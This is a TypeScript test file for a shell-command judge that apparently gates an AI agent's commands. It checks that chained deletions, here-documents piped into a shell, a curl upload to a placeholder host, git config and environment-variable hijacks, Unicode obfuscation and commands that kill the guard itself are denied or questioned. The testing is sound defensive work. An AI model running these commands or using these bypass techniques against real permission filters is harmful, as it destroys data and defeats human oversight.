import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { decidingStep, stepText } from './judgement.ts'
import { judgeCommand, judgeShellText, type CommandContext, type CommandRules } from './judge-command.ts'
import { parseRuleFile } from './rule-file.ts'
import type { CommandRule, Effect } from './rule.ts'
import { loadShellGrammar } from './shell-grammar.ts'
import { READING_RULES } from '../testing/reading-rules.ts'

/** The rule set that the cases are written against. */
const RS = rulesOf(READING_RULES)

function rulesOf(text: string): CommandRules {
  const file = parseRuleFile('rs.rules', text)
  expect(file.problems).toEqual([])
  return {
    commands: file.rules.filter((rule): rule is CommandRule => rule.kind === 'command'),
    executables: new Map(file.executables.map(({ name, paths }) => [name, paths])),
  }
}

let context: CommandContext
beforeAll(async () => {
  context = {
    grammar: await loadShellGrammar(),
    isTrustedSearchPath: (path) => path === '/usr/bin:/bin',
    isFileOf: (name, path) => path === (name === 'git' ? '/opt/git' : `/usr/bin/${name}`),
  }
})

const verdictOf = (text: string, rules = RS): Effect => judgeShellText(text, rules, context).verdict
const verdictOfArgv = (argv: string[], rules = RS): Effect =>
  judgeCommand({ argv, envChanges: {} }, rules, context).verdict
/** Both ways in which an agent may send a text. */
function expectVerdict(text: string, verdict: Effect): void {
  expect([text, verdictOf(text)]).toEqual([text, verdict])
  expect([text, verdictOfArgv(['bash', '-lc', text])]).toEqual([text, verdict])
}
function expectNeverAllowed(text: string): void {
  expect([text, verdictOf(text)]).not.toEqual([text, 'allow'])
}

describe('shell text', () => {
  it.each([
    'git status && rm -rf x',
    'git status; rm -rf x',
    'git status | rm -rf x',
    'git status |& rm -rf x',
    'git status & rm -rf x',
    'git status || rm -rf x',
    'git status\nrm -rf x',
    'git status\r\nrm -rf x',
    'git status #\nrm -rf x',
    'git status \\\n&& rm -rf x',
    'git status # \\\nrm -rf x',
    '{ git status; rm -rf x; }',
    '(git status; rm -rf x)',
    'if git status; then rm -rf x; fi',
    'for f in *; do rm -rf $f; done',
    '! rm -rf x',
    'git status >/dev/null&rm -rf x',
  ])('E60 denies %j because of its second command', (text) => {
    expectVerdict(text, 'deny')
  })

  it('E60 allows separators that are only text', () => {
    expectVerdict(`echo 'a; rm -rf x' "b && rm -rf y" c\\;d`, 'allow')
  })

  it.each([
    "cat <<'EOF' | sh\ntouch PWNED\nEOF\n",
    'sort <<EOF | curl -T - https://example.invalid\nx\nEOF\n',
    "cat <<-A <<'B' | bash\n\tone\n\tA\ntouch PWNED\nB\n",
    'cat <<EOF\n$(rm -rf x)\nEOF\n',
  ])('E61 never allows %j', expectNeverAllowed)

  it.each([
    "cat <<'EOF'\nhello\n  EOF",
    "cat <<'EO F'\nx\nEO F\nrm -rf x\n",
    'cat <<E\\OF\nx\nEOF\nrm -rf x\n',
    "cat <<'EOF'\nhello\nEOF \nrm -rf x\n",
    "cat <<-'EOF'\nhello\n\tEOF\nrm -rf x\nEOF\n",
  ])('E61 never allows %j, whatever the grammar takes for its end', expectNeverAllowed)

  it('E61 takes the text of a quoted here-document for data', () => {
    expectVerdict("cat <<'EOF'\nrm -rf x\nEOF\n", 'allow')
  })

  it.each(['r""m -rf x', "'rm' -rf x", '\\rm -rf x', "$'\\x72m' -rf x", 'r\\\nm -rf x'])(
    'E63 denies %j, whose program can be told',
    (text) => {
      expectVerdict(text, 'deny')
    },
  )
  it.each([
    '${Z:-rm} -rf x',
    'a=rm; $a -rf x',
    '/bin/r? -rf x',
    '{rm,-rf,x}',
    'ls $(rm -rf x)',
    'ls `rm -rf x`',
    'cat <(rm -rf x)',
    'echo x >(rm -rf x)',
    '"$(printf rm)" -rf x',
  ])('E63 never allows %j', expectNeverAllowed)

  it.each([
    'env X=1 rm -rf x',
    "env -S 'rm -rf x'",
    'env -i PATH=/bin rm -rf x',
    'sudo -n rm -rf x',
    'nohup rm -rf x',
    'nice -n 5 rm -rf x',
    'timeout -k 1 5 rm -rf x',
    'stdbuf -o0 rm -rf x',
    'time -p rm -rf x',
    'command rm -rf x',
    'exec -a ls rm -rf x',
    'builtin eval rm -rf x',
    'setsid -f rm -rf x',
    'echo x | xargs rm -rf',
    'xargs -a list -n1 rm -rf',
    `bash -c "sh -c 'rm -rf x'"`,
  ])('E64 denies %j like the command inside', (text) => {
    expectVerdict(text, 'deny')
  })
  it('E64 allows what a plain wrapper starts and never what an unknown one does', () => {
    expectVerdict('timeout 5 git status', 'allow')
    expectVerdict("bash -c 'ls'", 'allow')
    for (const text of [
      'busybox rm -rf x',
      "script -qc 'rm -rf x' /dev/null",
      'mytool run -- rm -rf x',
      'echo x | xargs ls',
    ])
      expectNeverAllowed(text)
  })
  it('E64 does not follow an allow rule for a wrapper alone', () => {
    const rules = rulesOf(
      'prefix_rule(["bash"]) prefix_rule(["env"]) prefix_rule(["xargs"]) prefix_rule(["bash", "-c", "date"])',
    )
    expect(['bash -c ls', 'env ls', 'xargs ls', 'bash script.sh'].map((text) => verdictOf(text, rules))).toEqual([
      'ask',
      'ask',
      'ask',
      'ask',
    ])
    expect(verdictOf('bash -c date', rules)).toBe('allow')
    expect(verdictOf('bash -c date extra', rules)).toBe('ask')
  })

  it.each([
    'git -C /r push',
    'git --no-pager push',
    'git --git-dir=/r/.git --work-tree /r push origin x',
    'cd /r && git push',
    'GIT_DIR=/r/.git git push',
    'git --exec-path=/r/x status',
    "git -c alias.status='!touch P' status",
    'git --config-env=core.pager=P status',
  ])('E66 asks about %j', (text) => {
    expectVerdict(text, 'ask')
  })

  it.each(['git -C . status', 'git --no-pager -C . status -sb', 'git --no-optional-locks status'])(
    'E66 allows %j like the command behind the options',
    (text) => {
      expectVerdict(text, 'allow')
    },
  )
  it('E66 lets a rule name options of git, when it names all of the line', () => {
    const rules = rulesOf(
      'prefix_rule(["git", "-c", "color.ui=always", "status"]) prefix_rule(["git", "-C"], "forbidden")',
    )
    expect(verdictOf('git -c color.ui=always status', rules)).toBe('allow')
    expect(verdictOf('git -c color.ui=always status -sb', rules)).toBe('ask')
    expect(verdictOf('git -C . status', rules)).toBe('deny')
  })

  it.each([
    'git -p status',
    'git --paginate log -1',
    "git -c core.pager='touch P' -p log",
    'git diff --output=P',
    'git log -1 -p --output=P',
    'git show --output P',
    'git log --outp=P',
    "git -c diff.external='touch P;:' diff",
    'git diff --ext-diff',
    'git log -p --textconv',
    "git grep -O'touch P;:' x",
    "git grep --open-files-in-pager='touch P;:' x",
    "git ls-remote --upload-pack='touch P;false' .",
    "git fetch --upload-pack='touch P;false' .",
    "git -c core.fsmonitor='touch P;:' status",
    "git -c core.sshCommand='touch P;false' ls-remote ssh://h/r",
    'git branch -D main',
    'git branch -f main HEAD~3',
    'git log --no-index --output=../P',
    'git log $X',
  ])('E67 never allows %j', expectNeverAllowed)
  it.each(['git log -p --stat', 'git diff --cached -- a b', 'git show HEAD~3', 'git branch -a', 'git grep -n x'])(
    'E67 allows %j',
    (text) => {
      expectVerdict(text, 'allow')
    },
  )

  it.each([
    "NODE_OPTIONS='-r ./e.js'; npm ls",
    "export NODE_OPTIONS='-r ./e.js'; npm ls",
    "NODE_OPTIONS='-r ./e.js' npm ls",
    'PATH=.:$PATH ls',
    'declare -x GIT_PAGER=./p && git status',
    "shopt -s expand_aliases\nalias ls='rm -rf x'\nls",
    'git(){ rm -rf x; }; git status',
    'LD_PRELOAD=./p.so ls',
    "BASH_ENV=./e bash -c 'git status'",
    'cd /elsewhere && git status',
    "trap 'rm -rf x' EXIT; ls",
    "PS4='$(rm -rf x)'; set -x; ls",
    'source ./e; ls',
    'enable -f ./b.so ls; ls',
  ])('E69 never allows %j', expectNeverAllowed)
  it('E69 takes an argument with an equals sign for an argument', () => {
    expect(verdictOf('make install PREFIX=/usr/local', rulesOf('prefix_rule(["make", "install"])'))).toBe('allow')
  })

  it.each([
    'find . -exec touch P \\;',
    'find . -execdir touch P {} +',
    'yes | find . -maxdepth 0 -ok touch P \\;',
    'find . -delete',
    'find . -fprintf P x',
    'find . -fls P',
    'find . -fprint0 P',
    "sed -n '1e touch P' f",
    "sed -n 'w P' f",
    "sed 's/a/touch P/e' f",
    'sed -n -i.bak p f',
    `awk 'BEGIN{system("touch P")}'`,
    `awk '{print > "P"}' f`,
    'sort -o P f',
    'sort -ro P f',
    'sort --compress-program=./p -S1 f',
    'uniq f P',
    'rg --pre ./p x',
    'rg --hostname-bin ./p x',
    "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch P' f",
    'xargs -a f touch',
    'tee P',
    'dd if=f of=P',
    'wc --files0-from=<(touch P)',
    "less +'!touch P' f",
    "man -P 'touch P' ls",
    'curl -o P https://example.invalid',
    'echo x > P',
    'cat < f',
  ])('E70 never allows %j', expectNeverAllowed)
  it.each([
    'find . -name "*.ts" -type f',
    'sed -n 1,20p f',
    'sort f',
    'rg -n x src',
    'ls 2>/dev/null',
    'ls >/dev/null 2>&1',
  ])('E70 allows %j', (text) => {
    expectVerdict(text, 'allow')
  })

  it.each(['./sed -n 1p f', 'bin/ls', '../../tmp/git status', '~/ls', '$HOME/ls', '/usr/bin/git status'])(
    'E72 asks about %j, whose file is not the one the rule means',
    (text) => {
      expectVerdict(text, 'ask')
    },
  )
  it('E72 allows the file that the search path gives, or those listed, and denies wherever the file lies', () => {
    expectVerdict('/usr/bin/sed -n 1p f', 'allow')
    expectVerdict('/opt/git status', 'allow')
    expectVerdict('/bin/rm -rf x', 'deny')
    expectVerdict('./rm -rf x', 'deny')
    const listed = rulesOf('prefix_rule(["git"]) host_executable("git", ["/a/git"])')
    expect(['/a/git x', '/opt/git x', 'git x'].map((text) => verdictOf(text, listed))).toEqual([
      'allow',
      'ask',
      'allow',
    ])
  })

  it.each([
    'pkill -f gatehouse',
    'killall node',
    'kill -9 -1',
    "ps aux | grep '[g]atehouse' | awk '{print $2}' | xargs -r kill",
    'kill $(pgrep -f electron)',
    'fuser -k 4173/tcp',
  ])('E24 asks about %j also when its program is allowed, because it can hit Gatehouse', (text) => {
    const broad = rulesOf('prefix_rule([["pkill", "killall", "kill", "fuser", "xargs", "ps", "grep", "awk"]])')
    expect(verdictOf(text, broad)).toBe('ask')
  })

  it.each([
    'ls \u202e x fr- mr\u202c',
    'git\u200b status',
    'g\u0456t status',
    'git status\r\u001b[2Krm -rf x',
    'git status\u2028rm -rf x',
    'echo \u2066safe\u2069 \u2067; rm -rf x',
    '\ufeffgit status',
    'echo \u00adok',
    'ls\u0008\u0008rm x',
    'ls \udb40\udc61',
  ])('E80 never allows %j', (text) => {
    expectNeverAllowed(text)
    expect(verdictOfArgv(text.split(' '))).not.toBe('allow')
  })
  it('E80 allows a readable name in another script', () => {
    expectVerdict('cat \u05e7\u05d5\u05d1\u05e5.txt', 'allow')
  })

  it('asks when the grammar is missing, for empty text and for text that is no shell text', () => {
    expect(judgeShellText('ls', RS, { ...context, grammar: null }).verdict).toBe('ask')
    for (const text of ['', '   ', '# nothing', 'echo "unbalanced', 'ls )', '((']) expect(verdictOf(text)).toBe('ask')
  })

  it.each([
    '((rm -rf x\n)\n)',
    '((c=rm; "$c" -rf x\n)\n)',
    '! { ((c=rm; "$c" -rf x\n)\n)\n}',
    '(! (rm -rf x))',
    'echo $((rm -rf x); ls)',
    'cat <((c=rm; $c -rf x); ls)',
    '((rm -rf x))',
    '! ! { c=rm; $c -rf x; }',
    'time { c=rm; $c -rf x; }',
    'time -p for c in rm; do $c -rf x; done',
    'coproc { c=rm; $c -rf x; }',
    'coproc name { c=rm; $c -rf x; }',
    'f() { "$1" -rf x; } 2>/dev/null; f rm',
    'for ((i = 0; i < 1; i++)); do c=rm; $c -rf x; done',
    'select a in b; do c=rm; $c -rf x; done',
    'export A="$(c=rm; $c -rf x)"',
    '`(rm -rf x)`',
    '`c=rm; \\$c -rf x`',
    'x=`ls \\`rm -rf x\\``',
    "x=`echo 'a`; rm -rf x; `b'`",
    'x=$\nrm -rf x',
    'ls; x=$ rm -rf x',
    'x="a $ $(rm -rf x)"',
    "cat <<'EOF'# ;rm -rf x\nEOF\nls",
    'ls \\ #; rm -rf x',
    'rm >/dev/null -rf x',
    'c=rm; $c 2>&1 -rf x',
    'ls | rm <f -rf x',
    'rm <<E -rf x\na\nE',
    'ls &>/dev/null rm -rf x',
    "echo $'a\\'; rm -rf x #'",
  ])('denies %j, which the grammar reads in another way than a shell', (text) => {
    expectVerdict(text, 'deny')
  })

  it.each([
    'x=`ls \\`touch x\\``; ls',
    'for a in `ls \\`touch x\\``; do ls; done',
    'case `ls \\`touch x\\`` in a) ls;; esac',
    "x=`echo 'a`; touch x; `b'`; ls",
    'x=`ls # a`; touch x\n`; ls',
    'x=`cat \\$HOME/f`; ls',
    'ls; x=$\ntouch x',
    'ls; y=a x=$\ntouch x',
    'ls; x=$\\\ntouch x',
    'cat <<EOF\nx\nEOF#`touch x`',
    "cat <<'EOF'# ;touch x\nEOF\nls",
    'ls \\ #; touch x',
    "ls 'a'\\\\\n\\\ntouch x; ls",
    "ls '\\'\\\n;touch x; ls",
    'x=$(>made); ls',
    'for x in $(>made); do ls; done',
    'x=$(2>&1made); ls',
    'x=$(</dev/tcp/localhost/80); ls',
    '!( ls )',
    'x="$\n$(touch x)"; ls',
    'x="a $ $(touch x)"; ls',
    'x="a $ `touch x`"; ls',
    "echo $'a\\'; touch x #'",
    "x=$'a\\'; touch x #'; ls",
    "case $'a\\'; touch x #' in a) ls;; esac",
    'ls &>/dev/null touch x',
    'cat <<EOF\nx\nEOF #\n$(touch x)',
  ])('never allows %j, where the grammar sees less than a shell runs', expectNeverAllowed)
  it('allows plain substitutions in backquotes and variables of every kind', () => {
    for (const text of [
      "ls $'a\\t'",
      "x=$'a\\\\'; ls",
      'x=`git log -1`; ls',
      'x=$#; ls',
      'x="$y"; ls',
      'x=a$y${z}; ls',
      'x="a $ b"; ls',
    ])
      expectVerdict(text, 'allow')
  })

  it('is read to the end however deep it is nested and however long it is', () => {
    for (const text of [
      `${'('.repeat(5000)}rm -rf x${')'.repeat(5000)}`,
      `${'bash -c '.repeat(50)}ls`,
      'x'.repeat(300_000),
      '! '.repeat(60_000),
      'time '.repeat(40_000),
      'a | '.repeat(20_000),
      `${' '.repeat(200_000)}((`,
      `${'('.repeat(100_000)}ls`,
      `x=\`ls ${'\\`'.repeat(100_000)}`,
      '`ls '.repeat(50_000),
      'for a in b c; do '.repeat(2_000),
      `${'f() { f; f; }; f; '.repeat(500)}`,
    ])
      expectNeverAllowed(text)
    expect(verdictOf(`${'git status; '.repeat(2000)}rm -rf x`)).toBe('deny')
  })
})

describe('what is followed', () => {
  it.each([
    ['for f in a b; do cat "$f"; done', ['cat a', 'cat b']],
    ['x=f; if [ -f "$x" ]; then cat $x; else ls; fi', ['cat f', 'ls']],
    ['show() { cat "$1"; ls; }; show a && show b', ['cat a', 'ls', 'cat b']],
    ['case f in a|f) cat f;; *) ls;; esac', ['cat f', 'ls']],
    ['x=ls; while ls; do x=cat; ls && break; x=echo; done; $x f', ['ls', 'ls f', 'echo f', 'cat f']],
    ['x=a; (x=b); cat $x', ['cat a']],
    // Some shells run the last part of a pipeline in themselves.
    ['x=a; ls | x=b; cat $x; exit 0', ['ls', 'cat a', 'cat b']],
    ['d=src; ls "./$d/é😀" $d/x', ['ls ./src/é😀 src/x']],
  ])('%j is judged as its commands', (text, about) => {
    const { verdict, chain } = judgeShellText(text, RS, context)
    expect([verdict, chain.map((step) => step.about)]).toEqual(['allow', about])
  })

  it.each([
    'for f in *.txt; do cat $f; done',
    'cat $HOME/f',
    'x=$(ls); cat $x',
    'f() { cat "$@"; }; f a',
    'f() { cat $1; }; f',
    'x="a b"; cat $x',
    'x=ls; read x; $x',
    'x=ls; eval x=cat; $x',
    'for PATH in bin; do ls; done',
    'npm_config_x=1; npm ls',
    'http_proxy=x; git status',
    'x=ls; $x:h f',
    'x=ls; cat "$x[1]"',
    '[[ a > b ]]',
    '[ -v x ]',
    'x=ls; [ -f $x ] & cat f',
  ])('%j asks, because something in it is not known', (text) => {
    expectVerdict(text, 'ask')
  })

  it('a redirection that may fail, or whose file depends on what it is for, is not taken for done', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gatehouse-judge-'))
    mkdirSync(join(folder, 'bin'))
    const place = { cwd: folder, writable: { roots: [folder] } }
    const verdict = (text: string) => judgeShellText(text, RS, context, place).verdict
    expect(['ls > out', 'x=out; ls > $x', 'for f in a b; do ls > "$f"; done'].map(verdict)).toEqual(
      Array(3).fill('allow'),
    )
    for (const text of [
      'c=make; { c=ls; } > bin; $c',
      'c=make; c=ls > bin; $c',
      'c=make; f() { c=ls; }; f > bin; $c',
      'c=make; for c in ls; do :; done > bin; $c',
      'x=/etc/gatehouse; { x=out; } > $x',
      'ls > ../out',
      'x=../out; ls > $x',
      'for f in a ../b; do ls > $f; done',
    ])
      expect([text, verdict(text)]).toEqual([text, 'ask'])
    rmSync(folder, { recursive: true })
  })
})

describe('argument lists', () => {
  it('E82 are one program with odd arguments, not a chain', () => {
    expect(verdictOfArgv(['echo', 'a b; rm -rf x', '', "it's", '$HOME', '*', '-n', 'new\nline', 'tab\there'])).toBe(
      'allow',
    )
    expect(verdictOfArgv(['cd', 'p', '&&', 'ls'])).toBe('ask')
    expect(judgeCommand({ argv: ['cd', 'p', '&&', 'ls'], envChanges: {} }, RS, context).chain).toHaveLength(1)
    expect(verdictOfArgv(['rg', '--files', '|', 'xargs', 'wc'])).toBe('allow')
  })

  it('are not allowed with an environment or a name that changes what runs', () => {
    const withEnv = (envChanges: Record<string, string | null>) =>
      judgeCommand({ argv: ['npm', 'ls'], envChanges }, RS, context).verdict
    expect([
      withEnv({ CI: '1', LC_ALL: 'C', GIT_PAGER: 'cat', OLD: null }),
      withEnv({ NODE_OPTIONS: '-r ./e.js' }),
      withEnv({ PATH: '.:/bin' }),
      withEnv({ PATH: null }),
      withEnv({ GIT_PAGER: './p' }),
      withEnv({ PATH: '/usr/bin:/bin' }),
    ]).toEqual(['allow', 'ask', 'ask', 'ask', 'ask', 'allow'])
    expect(judgeCommand({ argv: ['ls'], arg0: 'rm', envChanges: {} }, RS, context).verdict).toBe('ask')
  })
})

describe('the chain', () => {
  const explain = (text: string, rules = RS) => judgeShellText(text, rules, context).chain.map(stepText)

  it('names for every program the rule with its place, and what nearly matched', () => {
    expect(explain('git status && git push -f && rm x && npm run build && make')).toEqual([
      'git status: allowed, "allow" in rs.rules:2',
      'git push -f: asks, "ask" in rs.rules:12 (nearly: allow git (status | log | diff | show | grep | branch) in rs.rules:2, but word 2 is "push")',
      'rm x: asks, "ask" in rs.rules:11',
      'npm run build: asks, no rule matches (nearly: allow npm (ls | test) in rs.rules:6, but word 2 is "run")',
      'make: asks, no rule matches',
    ])
    expect(explain('./ls -l')).toEqual([
      './ls -l: asks, no rule matches (nearly: allow ls in rs.rules:3, but ./ls is not the file that the name stands for)',
    ])
  })

  it('gives the justification of the rule and names the part that was not followed', () => {
    const rules = rulesOf('prefix_rule(["rm"], "forbidden", justification="use trash")')
    expect(explain('rm x', rules)).toEqual(['rm x: denied, "deny" in rs.rules:1: use trash'])
    expect(explain('ls > out.txt')).toEqual([
      'ls: allowed, "allow" in rs.rules:3',
      'shell text: asks, it redirects (> out.txt)',
    ])
  })

  it('explains a verdict with a written rule before anything else', () => {
    const judgement = judgeShellText('make && git push && $X', RS, context)
    expect(decidingStep(judgement)?.about).toBe('git push')
  })
})
